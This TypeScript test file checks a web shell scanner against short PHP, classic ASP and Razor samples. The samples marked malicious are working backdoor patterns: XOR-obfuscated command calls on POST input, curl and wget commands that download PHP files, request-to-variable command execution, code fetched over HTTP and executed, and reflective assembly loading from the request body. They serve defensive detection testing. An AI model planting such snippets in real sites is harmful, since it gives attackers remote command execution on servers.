import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Techniques of the misses of session 23's set F (real shells from 33 repositories no earlier set
// used, kept outside the project; F was scanned once with the session's scanner before anyone looked
// at it), each written again by us in a few lines.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

/** `text` as two PHP literals whose XOR gives it (each character of both a letter or a digit). */
function xorPair(text: string, seed: number): string {
  const ok = (c: number) => (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
  let a = '';
  let b = '';
  for (let i = 0; i < text.length; i++) {
    const t = text.charCodeAt(i);
    let k = 65 + ((seed + i * 7) % 26);
    while (!ok(t ^ k)) k = k === 122 ? 48 : k + 1;
    a += String.fromCharCode(k);
    b += String.fromCharCode(t ^ k);
  }
  return `'${a}'^'${b}'`;
}

describe('scan: PHP techniques of session 23 set F, samples of our own', () => {
  it('malicious: names computed by XOR and OR of string literals, then called through variables', () => {
    // (bare words among the operands, as PHP 7 reads unknown constants: Em|'  ' is 'em'; nothing a fold of literals computes)
    const junk = Array.from({ length: 10 }, (_, i) => `$j${i}=${xorPair(`k${i}x`, i)}|Qz${i}w&'${'~'.repeat(4)}';`).join('');
    const src = `<?php ${junk}$f=(${xorPair('syst', 3)}).(Em|'  ');$d=${xorPair('base64_decode', 11)};if(!$f($d($_POST['q'])))$j0($j1);`;
    const r = scan(src);
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    assert.ok(r.findings.some((f) => f.technique === 'obfuscation' && /bitwise operators on string literals/.test(f.description)), JSON.stringify(r.findings));
  });

  it('malicious: a shell command that downloads a PHP file (wget -O, curl -o, curl >)', () => {
    for (const cmd of [`shell_exec('wget -q -O up.php http://example.invalid/a.txt')`, `system("curl -s -o ./x.phtml https://example.invalid/x")`, `exec('curl https://example.invalid/p > shell.php')`]) {
      const r = scan(`<?php if (isset($_GET['go'])) { ${cmd}; echo 'ok'; }`);
      assert.equal(r.verdict, 'malicious', `${cmd}: ${JSON.stringify(r.findings)}`);
    }
  });

  it('malicious: chmod of a path the request names to the mode it names', () => {
    const r = scan(`<?php foreach ($_GET as $k => $v) $_GET[$k] = base64_decode($v);\nif (isset($_GET['p'], $_GET['m'])) echo chmod($_GET['d'] . '/' . $_GET['p'], octdec($_GET['m'])) ? 'done' : 'failed';`);
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  it("malicious: the request's command kept in an if branch, emptied in the else one, then run", () => {
    for (const src of [
      `<?php if (isset($_POST['c'])) { $c = trim($_POST['c']); } else { $c = ''; }\nif ($c !== '') { echo '<pre>'; passthru($c); }`,
      `<?php if (isset($_POST['c'])): $c = $_POST['c']; else: $c = ''; endif;\nob_start(); system($c); $o = ob_get_clean(); echo $o;`,
      `<?php if (!empty($_REQUEST['c'])) $c = $_REQUEST['c']; else $c = 'id';\necho shell_exec($c);`,
    ]) {
      const r = scan(src);
      assert.equal(r.verdict, 'malicious', `${src}\n${JSON.stringify(r.findings)}`);
    }
  });

  it('not malicious: fixed downloads and commands, a fixed chmod, a command replaced outright', () => {
    for (const src of [
      `<?php exec('wget -q -O /tmp/rates.json https://example.invalid/rates.json'); echo file_get_contents('/tmp/rates.json');`,
      `<?php echo shell_exec('curl -s https://example.invalid/status');`,
      `<?php $p = __DIR__ . '/cache/' . basename($_GET['f'] ?? 'x'); if (is_file($p)) chmod($p, 0644);`,
      `<?php $c = $_GET['c'] ?? ''; $c = 'uptime'; echo shell_exec($c), htmlspecialchars($_GET['c'] ?? '');`,
      `<?php $x = 'abc' ^ 'def'; $y = 'ghi' | 'jkl'; echo bin2hex($x . $y), htmlspecialchars($_GET['q'] ?? '');`,
    ]) {
      const r = scan(src);
      assert.notEqual(r.verdict, 'malicious', `${src}\n${JSON.stringify(r.findings)}`);
    }
  });
});

describe('scan: request parameters made into variables all at once (session 23), samples of our own', () => {
  it('malicious: extract, parse_str without an array, import_request_variables, a loop of $$k = $v; and a catch block emptying the command', () => {
    for (const src of [
      `<?php extract($_POST); if (!empty($cmd)) echo '<pre>' . shell_exec($cmd) . '</pre>';`,
      `<?php extract($_REQUEST, EXTR_OVERWRITE); system($c);`,
      `<?php parse_str($_SERVER['QUERY_STRING']); passthru($run);`,
      `<?php import_request_variables('gp'); passthru($c);`,
      `<?php foreach ($_GET as $key => $val) { $$key = $val; } echo shell_exec($q);`,
      `<?php try { $c = base64_decode($_POST['c']); } catch (Exception $e) { $c = ''; } system($c);`,
      `<?php while (list($name, $cmd) = each($_POST)) { echo "<b>$name</b><pre>" . shell_exec($cmd) . '</pre>'; }`,
    ]) {
      const r = scan(src);
      assert.equal(r.verdict, 'malicious', `${src}\n${JSON.stringify(r.findings)}`);
    }
  });

  it('not malicious: extract of an array of the code, a variable given a fixed value after extract, parse_str into an array', () => {
    for (const src of [
      `<?php extract($config); system('ls ' . escapeshellarg($dir));`,
      `<?php extract($_POST); $cmd = 'uptime'; echo shell_exec($cmd), htmlspecialchars($name ?? '');`,
      `<?php parse_str($_SERVER['QUERY_STRING'], $q); echo htmlspecialchars($q['a'] ?? '');`,
      `<?php try { $r = compute(); } catch (Exception $e) { $r = null; } echo (int) $r;`,
      `<?php while (list($k, $v) = each($settings)) { echo htmlspecialchars($k . '=' . $v); } echo htmlspecialchars($_GET['q'] ?? '');`,
    ]) {
      const r = scan(src);
      assert.notEqual(r.verdict, 'malicious', `${src}\n${JSON.stringify(r.findings)}`);
    }
  });
});

describe('scan: ASP and Razor techniques of session 23 set F, samples of our own', () => {
  it('malicious: classic ASP executing a literal decoded by a shift kept in a variable', () => {
    const src = `<%\nsrc = "tfu!y!>!3"\nExecute(Shift(src))\nFunction Shift(t)\n  For i = 1 To Len(t)\n    k = Asc(Mid(t, i, 1)) - 1\n    out = out & Chr(k)\n  Next\n  Shift = out\nEnd Function\n%>`;
    const r = scan(src, '/www/a.asp');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  it('malicious: classic ASP executing what it fetched over HTTP', () => {
    const src = `<%\nFunction Fetch()\n  Set h = CreateObject("MSXML2.XMLHTTP")\n  h.open "GET", "http://example.invalid/p.txt", False\n  h.send\n  Fetch = h.responseText\nEnd Function\nExecute Fetch()\n%>`;
    const r = scan(src, '/www/a.asp');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  it('malicious: a Razor page loading an assembly from the decrypted request body by reflection', () => {
    const src = `@{\n  if (Context.Request.Method == "POST") {\n    var ms = new System.IO.MemoryStream(); await Context.Request.Body.CopyToAsync(ms);\n    var data = Convert.FromBase64String(System.Text.Encoding.UTF8.GetString(ms.ToArray()));\n    var aes = System.Security.Cryptography.Aes.Create(); aes.Key = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");\n    var raw = aes.CreateDecryptor().TransformFinalBlock(data, 0, data.Length);\n    Type t = Type.GetType(System.Text.Encoding.ASCII.GetString(new byte[] { 0x53, 0x79 }));\n    var load = t.GetMethod("Load", new Type[] { new byte[0].GetType() });\n    object asm = load.Invoke(null, new object[] { raw });\n  }\n}`;
    const r = scan(src, '/www/Pages/a.cshtml');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  it("malicious: a Razor page starting a process from Request.Query", () => {
    const src = `@page\n@{\n  string c = HttpContext.Request.Query["c"];\n  var p = new System.Diagnostics.Process();\n  p.StartInfo.FileName = "/bin/sh";\n  p.StartInfo.Arguments = "-c \\"" + c + "\\"";\n  p.StartInfo.RedirectStandardOutput = true;\n  p.Start();\n  @p.StandardOutput.ReadToEnd()\n}`;
    const r = scan(src, '/www/Pages/b.cshtml');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  // (a page that is a database client of the request: suspicious inside a larger page, an admin tool's or a shell's;
  // malicious since session 34 where it is the whole of a small page, as the real shells of held-out set H2 are)
  it('malicious: classic ASP giving the request to a ScriptControl, a small page that is a database client of the request; suspicious: the client in a larger page', () => {
    const sc = `<%\nSet e = CreateObject("MSScriptControl.ScriptControl")\ne.Language = "VBScript"\ne.ExecuteStatement Request.Form("code")\n%>`;
    assert.equal(scan(sc, '/www/a.asp').verdict, 'malicious');
    const db = `<%@ Page Language="C#" %>\n<% var cn = new System.Data.SqlClient.SqlConnection(Request.Form["cs"]); cn.Open();\nvar cmd = new System.Data.SqlClient.SqlCommand(Request.Form["sql"], cn); Response.Write(cmd.ExecuteScalar()); %>`;
    const r = scan(db, '/www/db.aspx');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    const page = `${db}\n${'<p>Connection strings are kept per environment; see the operations handbook.</p>\n'.repeat(60)}`;
    const big = scan(page, '/www/admin/db.aspx');
    assert.equal(big.verdict, 'suspicious', JSON.stringify(big.findings));
  });

  it('not flagged: a ScriptControl on a fixed expression, a query with request values as parameters', () => {
    const sc = `<%\nSet e = CreateObject("MSScriptControl.ScriptControl")\ne.Language = "VBScript"\nResponse.Write e.Eval("1 + 2")\nResponse.Write Server.HTMLEncode(Request("q"))\n%>`;
    assert.equal(scan(sc, '/www/a.asp').verdict, 'clean');
    const db = `<%@ Page Language="C#" %>\n<% var cn = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["shop"].ConnectionString); cn.Open();\nvar cmd = new System.Data.SqlClient.SqlCommand("SELECT name FROM items WHERE id = @id", cn); cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]); Response.Write(Server.HtmlEncode((string)cmd.ExecuteScalar())); %>`;
    assert.equal(scan(db, '/www/item.aspx').verdict, 'clean');
  });

  it('malicious: request-named files written from the request, uploads under the client name in the root, code joined around a request value', () => {
    for (const [name, src] of [
      ['w.aspx', `<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath(Request.Form["path"]), Request.Form["body"]); Response.Write("saved"); %>`],
      ['u.aspx', `<%@ Page Language="C#" %>\n<% foreach (string k in Request.Files) { } if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Server.MapPath("~/") + Request.Files[0].FileName); } %>`],
      ['s.asp', `<%\nSet st = CreateObject("ADODB.Stream")\nst.Type = 1 : st.Open\nst.Write Request.BinaryRead(Request.TotalBytes)\nst.SaveToFile Server.MapPath(Request.QueryString("to")), 2\n%>`],
      ['e.asp', `<%\nv = Request.Form("v")\nExecute("Response.Write(" & v & ")")\n%>`],
    ]) {
      const r = scan(src!, `/www/${name}`);
      assert.equal(r.verdict, 'malicious', `${name}: ${JSON.stringify(r.findings)}`);
    }
  });

  it('not malicious: a fixed log file appended to, an upload saved under a generated name, a fixed Execute', () => {
    for (const [name, src] of [
      ['w.aspx', `<%@ Page Language="C#" %>\n<% System.IO.File.AppendAllText(Server.MapPath("~/App_Data/visits.log"), Request.UserHostAddress + "\\n"); %>`],
      ['u.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Server.MapPath("~/App_Data/") + System.Guid.NewGuid().ToString("N") + ".bin"); } %>`],
      ['e.asp', `<%\nExecute("Dim total : total = 0")\nResponse.Write Server.HTMLEncode(Request("q"))\n%>`],
    ]) {
      const r = scan(src!, `/www/${name}`);
      assert.notEqual(r.verdict, 'malicious', `${name}: ${JSON.stringify(r.findings)}`);
    }
  });

  it('not malicious: an ASP page that shows fetched text, a Razor page echoing a query value', () => {
    const asp = `<%\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.open "GET", "http://example.invalid/news.txt", False\nh.send\nResponse.Write Server.HTMLEncode(h.responseText)\n%>`;
    assert.notEqual(scan(asp, '/www/news.asp').verdict, 'malicious');
    const razor = `@page\n@{\n  string q = HttpContext.Request.Query["q"];\n}\n<p>You searched for @q</p>`;
    assert.equal(scan(razor, '/www/Pages/search.cshtml').verdict, 'clean');
  });
});
